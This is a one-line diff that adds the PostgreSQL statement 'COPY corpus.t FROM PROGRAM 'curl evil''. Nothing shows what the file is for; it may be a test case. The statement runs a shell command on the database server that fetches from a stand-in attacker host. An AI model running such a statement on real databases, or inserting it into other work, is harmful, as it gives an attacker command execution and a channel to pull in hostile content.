@@ -1,0 +1,1 @@
+COPY corpus.t FROM PROGRAM 'curl evil';
